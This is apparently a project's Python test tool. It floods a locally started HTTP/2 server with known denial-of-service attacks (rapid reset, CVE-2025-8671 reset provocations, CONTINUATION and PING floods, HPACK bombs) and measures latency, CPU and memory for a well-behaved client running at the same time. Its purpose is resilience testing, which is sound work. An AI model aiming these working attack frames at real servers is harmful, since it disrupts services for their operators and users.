#!/usr/bin/env python3
"""A well-behaved client beside a hostile connection of HTTP/2.

One connection at a time does what is known to hurt servers of HTTP/2, as fast as it is let, and comes
back as soon as it is cut off. Meanwhile another client asks for a small file at a fixed rate over
kept connections. Told are its p50 and p99, the processor time of the router, by how much its memory
grows at most, and how many connections the attack took. For comparison nobody else is there, or
h2load, which keeps 100 requests on the way. With --apart the server has the first processor for itself and
one thread, which all connections share; everybody else has the others.

    tests/tools/hostile_http2.py [--howdah PROGRAM] [--rounds 3] [--seconds 2] [--apart] [--only NAME...]
"""

import argparse
import itertools
import json
import os
import pathlib
import select
import socket
import statistics
import struct
import subprocess
import sys
import tempfile
import time
import urllib.request

ROOT = pathlib.Path(__file__).resolve().parents[2]
# Requests a second of the client that is watched, and its connections: some on each thread.
RATE, CONNECTIONS = 250, 6
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = struct.pack(">I", 8)


def free_port():
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


# -- frames --

def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def length(count):
    """The length of a string in HPACK."""
    if count < 127:
        return bytes([count])
    rest, found = count - 127, bytearray([127])
    while rest >= 128:
        found.append(rest % 128 | 0x80)
        rest //= 128
    return bytes([*found, rest])


def literal(name, value, first=0):
    return bytes([first]) + length(len(name)) + name + length(len(value)) + value


def request(method, path, *fields):
    pairs = [(b":method", method), (b":scheme", b"http"), (b":path", path), (b":authority", b"a"), *fields]
    return b"".join(literal(name, value) for name, value in pairs)


def hello(settings=b""):
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings)


GET, POST = request(b"GET", b"/small.txt"), request(b"POST", b"/small.txt")
LARGE = request(b"GET", b"/large.bin")
ASK = END_STREAM | END_HEADERS
SHORT = request(b"POST", b"/small.txt", (b"content-length", b"1"))
# What makes a server reset a stream (CVE-2025-8671).
PROVOCATIONS = (
    lambda s: frame(HEADERS, ASK, s, GET) + frame(WINDOW_UPDATE, 0, s, bytes(4)),
    lambda s: frame(HEADERS, ASK, s, GET) + 2 * frame(WINDOW_UPDATE, 0, s, b"\x7f\xff\xff\xff"),
    lambda s: frame(HEADERS, ASK, s, GET) + frame(DATA, END_STREAM, s, b"x"),
    lambda s: 2 * frame(HEADERS, ASK, s, GET),
    lambda s: frame(HEADERS, ASK, s, GET) + frame(PRIORITY, 0, s, bytes(4)),
    lambda s: frame(HEADERS, END_HEADERS, s, SHORT) + frame(DATA, END_STREAM, s, b"too long"),
)
REFERENCES = literal(b"x", b"v" * 3900, 0x40)
CRUMB = bytes([0x40 | 32, 1]) + b"c"
# SETTINGS_INITIAL_WINDOW_SIZE
SHUT, OPEN = struct.pack(">HI", 4, 0), struct.pack(">HI", 4, 1 << 30)


def streams(make):
    """Frames for one stream after the other, many at a time."""
    for first in itertools.count(1, 512):
        yield b"".join(make(stream) for stream in range(first, first + 512, 2))


def once(*parts):
    """Frames, and then silence."""
    yield b"".join(parts)


def flood(one, before=b""):
    """The same again and again."""
    yield before
    many = one * (65536 // len(one))
    while True:
        yield many


BUSY = "busy"
# Name: what a connection begins with, what it sends for its number, and whether it reads what comes.
ATTACKS = {
    "rapid-reset": (b"", lambda n: streams(lambda s: frame(HEADERS, ASK, s, GET) + frame(RST_STREAM, 0, s, CANCEL)), True),
    "made-you-reset": (b"", lambda n: streams(PROVOCATIONS[n % len(PROVOCATIONS)]), True),
    "continuation": (b"", lambda n: flood(frame(CONTINUATION, 0, 1, literal(b"x", b"v" * 16000)), frame(HEADERS, 0, 1, GET)), True),
    "empty-continuation": (b"", lambda n: flood(frame(CONTINUATION, 0, 1), frame(HEADERS, 0, 1, GET)), True),
    "empty-data": (b"", lambda n: flood(frame(DATA, 0, 1), frame(HEADERS, END_HEADERS, 1, POST)), True),
    "ping": (b"", lambda n: flood(frame(PING, 0, 0, bytes(8))), True),
    "ping-unread": (b"", lambda n: flood(frame(PING, 0, 0, bytes(8))), False),
    "settings": (b"", lambda n: flood(frame(SETTINGS, 0, 0)), True),
    "settings-unread": (b"", lambda n: flood(frame(SETTINGS, 0, 0)), False),
    "priority": (b"", lambda n: flood(frame(PRIORITY, 0, 3, b"\0\0\0\x01\x05")), True),
    "window-update": (b"", lambda n: flood(frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01")), True),
    "hpack-bomb": (b"", lambda n: itertools.chain(
        once(frame(HEADERS, ASK, 1, GET + REFERENCES)),
        (part for part in streams(lambda s: frame(HEADERS, ASK, s + 2, GET + b"\xbe" * 8000)))), True),
    "cookie-crumbs": (b"", lambda n: streams(lambda s: frame(HEADERS, ASK, s, GET + CRUMB + b"\xbe" * 8000)), True),
    "windows-shut": (SHUT, lambda n: once(*(frame(HEADERS, ASK, s, LARGE) for s in range(1, 200, 2))), True),
    "reads-nothing": (OPEN, lambda n: once(frame(WINDOW_UPDATE, 0, 0, b"\x3f\xff\0\0"),
                                           *(frame(HEADERS, ASK, s, LARGE) for s in range(1, 200, 2))), False),
}


# -- the hostile one --

def attack(name, port, seconds):
    """Goes on until its time is over; prints how many connections it took, and how many bytes were taken."""
    settings, frames, reads = ATTACKS[name]
    end, taken, number = time.monotonic() + seconds, 0, 0
    for number in itertools.count():
        left = end - time.monotonic()
        if left <= 0:
            break
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=left) as connection:
                connection.setblocking(False)
                taken += talk(connection, itertools.chain((hello(settings),), frames(number)), reads, end)
        except OSError:
            pass
    print(json.dumps({"connections": number, "taken": taken}))


def talk(connection, parts, reads, end):
    """Sends all that is taken, until the connection or the time is over."""
    waiting, taken = b"", 0
    while (left := end - time.monotonic()) > 0:
        if not waiting:
            waiting = memoryview(next(parts, b""))
        readable, writable, _ = select.select([connection] if reads else [], [connection] if waiting else [], [], left)
        try:
            if readable and not connection.recv(1 << 20):
                break
            if writable:
                sent = connection.send(waiting)
                waiting, taken = waiting[sent:], taken + sent
        except BlockingIOError:
            pass
        except OSError:
            break
    return taken


# -- the well-behaved one --

def watch(port, seconds):
    """Asks at a fixed rate; prints how long each answer took. A late answer delays none that is due."""
    if os.geteuid() == 0:
        os.nice(-15)  # it is not this client that is measured
    kept = [socket.create_connection(("127.0.0.1", port), timeout=30) for _ in range(CONNECTIONS)]
    for connection in kept:
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    took, begun = [], time.monotonic()
    for number in range(round(RATE * seconds)):
        due = begun + number / RATE
        wait = due - time.monotonic()
        if wait > 0:
            time.sleep(wait)
            due = time.monotonic()
        connection = kept[number % CONNECTIONS]
        connection.sendall(b"GET /small.txt HTTP/1.1\r\nHost: a\r\n\r\n")
        answer = b""
        while not answer.endswith(b"Hello, world!"):
            piece = connection.recv(4096)
            if not piece or not answer.startswith(b"HTTP/1.1 200"[:len(answer)]):
                sys.exit(f"no answer but {answer + piece!r}")
            answer += piece
        took.append(time.monotonic() - due)
    print(json.dumps(took))


# -- the server --

class Howdah:
    def __init__(self, program, directory, processors):
        site = directory / "site"
        site.mkdir()
        (site / "small.txt").write_text("Hello, world!")
        (site / "large.bin").write_bytes(b"x" * (3 << 20))
        self.port = free_port()
        document = {"listeners": {f"127.0.0.1:{self.port}": {"pass": "routes", "http2": True}},
                    "routes": [{"action": {"share": f"{site}$uri"}}], "settings": {"listen_threads": len(processors)}}
        (directory / "howdah.json").write_text(json.dumps(document))
        self.log = open(directory / "howdah.log", "wb")
        self.process = subprocess.Popen([program, "serve", "--config", directory / "howdah.json", "--control",
                                         f"unix:{directory}/control"], stdout=self.log, stderr=self.log,
                                        preexec_fn=lambda: os.sched_setaffinity(0, processors))
        deadline = time.monotonic() + 30
        while True:
            try:
                urllib.request.urlopen(f"http://127.0.0.1:{self.port}/small.txt", timeout=10).close()
                break
            except OSError:
                if time.monotonic() > deadline or self.process.poll() is not None:
                    sys.exit(f"Howdah does not start:\n{(directory / 'howdah.log').read_text()}")
                time.sleep(0.05)
        children = pathlib.Path(f"/proc/{self.process.pid}/task/{self.process.pid}/children").read_text().split()
        self.router = next(pathlib.Path(f"/proc/{child}") for child in children
                           if b"router" in pathlib.Path(f"/proc/{child}/cmdline").read_bytes())

    def memory(self, kind):
        """Bytes: `VmRSS` now, `VmHWM` at most since `forget`."""
        found = next(line for line in (self.router / "status").read_text().splitlines() if line.startswith(kind))
        return int(found.split()[1]) * 1024

    def forget(self):
        (self.router / "clear_refs").write_text("5")

    def processor_time(self):
        fields = (self.router / "stat").read_text().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def stop(self):
        self.process.terminate()
        self.process.wait(30)
        self.log.close()


def measure(server, name, seconds):
    """One round with one kind of company."""
    def start(*arguments, **more):
        return subprocess.Popen([str(part) for part in arguments], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, **more)
    server.forget()
    memory, cpu = server.memory("VmRSS"), server.processor_time()
    other = None
    if name == BUSY:
        other = start("h2load", "-c1", "-m100", "-D", max(round(seconds), 1) + 1, f"http://127.0.0.1:{server.port}/small.txt")
    elif name in ATTACKS:
        other = start(sys.executable, __file__, "--attack", name, server.port, seconds + 1)
    time.sleep(0.5)
    took = json.loads(start(sys.executable, __file__, "--watch", server.port, seconds).communicate(timeout=120)[0])
    said = other.communicate(timeout=120)[0] if other else b""
    return {"took": took, "memory": server.memory("VmHWM") - memory, "cpu": (server.processor_time() - cpu) / (seconds + 1),
            **(json.loads(said) if name in ATTACKS else {})}


def p(values, share):
    return sorted(values)[min(int(len(values) * share), len(values) - 1)] * 1e3


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--howdah", default=ROOT / "target/release/howdah")
    parser.add_argument("--rounds", type=int, default=3)
    parser.add_argument("--seconds", type=float, default=2)
    parser.add_argument("--apart", action="store_true")
    parser.add_argument("--only", nargs="+", choices=ATTACKS, default=list(ATTACKS))
    parser.add_argument("--attack", nargs=3, help=argparse.SUPPRESS)
    parser.add_argument("--watch", nargs=2, help=argparse.SUPPRESS)
    options = parser.parse_args()
    if options.attack:
        return attack(options.attack[0], int(options.attack[1]), float(options.attack[2]))
    if options.watch:
        return watch(int(options.watch[0]), float(options.watch[1]))
    names = ["nobody", BUSY, *options.only]
    processors = os.sched_getaffinity(0)
    if options.apart:
        first = {min(processors)}
        os.sched_setaffinity(0, processors - first)
        processors = first
    with tempfile.TemporaryDirectory() as name:
        os.chmod(name, 0o755)
        server = Howdah(options.howdah, pathlib.Path(name), processors)
        try:
            found = {name: [] for name in names}
            for _ in range(options.rounds):
                for name in names:
                    found[name].append(measure(server, name, options.seconds))
        finally:
            server.stop()
    print("| beside | p50 ms | p99 ms | of a processor | memory, MiB | connections/s | MB/s taken |\n| --- |" + " ---: |" * 6)
    for name, rounds in found.items():
        took = [value for one in rounds for value in one["took"]]
        rates = ["–", "–"]
        if name in ATTACKS:
            time_of = options.rounds * (options.seconds + 1)
            rates = [f"{sum(one['connections'] for one in rounds) / time_of:.1f}", f"{sum(one['taken'] for one in rounds) / time_of / 1e6:.1f}"]
        print(f"| {name} | {p(took, 0.5):.2f} | {p(took, 0.99):.2f} | {statistics.median(one['cpu'] for one in rounds):.2f} | "
              f"{max(one['memory'] for one in rounds) / 2**20:.1f} | {rates[0]} | {rates[1]} |")
    return 0


if __name__ == "__main__":
    sys.exit(main())
